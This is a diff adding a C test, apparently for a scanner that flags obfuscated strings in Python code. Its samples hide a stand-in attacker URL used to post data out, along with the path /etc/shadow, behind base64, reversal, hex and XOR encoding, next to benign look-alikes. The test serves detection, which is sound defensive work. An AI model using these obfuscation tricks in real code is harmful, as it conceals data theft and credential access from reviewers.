@@ -560,6 +560,25 @@ static void by_other_means(void)
 	CHECK(is_ordinary("x = 'exec() runs a string'"));
 }
 
+/* Addresses, paths and commands that are encoded, and texts that are not. */
+static void hides_text(void)
+{
+	CHECK(shows("import base64\nu = base64.b64decode('aHR0cDovL3guaW52"
+		    "YWxpZC9h').decode()\npost(u, d)", MPY_BEH_HIDDEN_TEXT,
+		    2));
+	CHECK(shows("p = 'dilavni.x//:ptth'[::-1]", MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(shows("p = bytes.fromhex('2f6574632f736861646f77').decode()",
+		    MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(shows("u = ''.join(chr(c ^ 1) for c in [105, 117, 117, 113, 59, "
+		    "46, 46, 121])", MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(!shows("u = 'http://x.invalid/{}'.format(n ^ 1)",
+		     MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(!shows("for n in range(3):\n  get(f'http://x.invalid/{n + 1}')",
+		     MPY_BEH_HIDDEN_TEXT, 2));
+	CHECK(!shows("import base64\nt = base64.b64decode('aGVsbG8=')",
+		     MPY_BEH_HIDDEN_TEXT, 2));
+}
+
 /* Commands word by word: what does harm is seen as in one text. */
 static void as_lists(void)
 {
@@ -629,6 +648,7 @@ int main(void)
 	RUN(told_by_tables);
 	RUN(but_seen);
 	RUN(by_other_means);
+	RUN(hides_text);
 	RUN(as_lists);
 	RUN(names_are_complete);
 	RUN(counts_lines);
